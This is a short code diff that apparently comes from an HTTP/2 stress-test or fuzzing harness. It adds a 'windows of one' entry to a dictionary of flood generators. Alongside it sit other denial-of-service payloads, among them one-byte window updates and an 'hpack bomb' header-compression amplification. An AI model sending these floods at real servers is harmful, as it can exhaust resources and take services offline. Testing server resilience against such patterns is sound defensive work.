@@ -54,6 +54,8 @@ FLOODS = {
     "priority": lambda n: frame(http2.PRIORITY, 0, 1, struct.pack("!IB", 0, n & 255)),
     "unknown frames": lambda n: frame(0x42, 0, 0, b"x"),
     "window updates of one": lambda n: update(1),
+    "windows of one": lambda n: (frame(http2.SETTINGS, 0, 0, struct.pack("!HI", 4, 0)) + head(1, path("/bytes/100000"))
+                                 if n == 0 else update(1, 1)),
     "empty data": lambda n: head(1, POST, END_HEADERS) if n == 0 else frame(http2.DATA, 0, 1),
     # A large field into the table, then references to it: 4 KB of header for each byte.
     "hpack bomb": lambda n: head(1 + 2 * n, GET + (b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4000 if n == 0 else b"") +
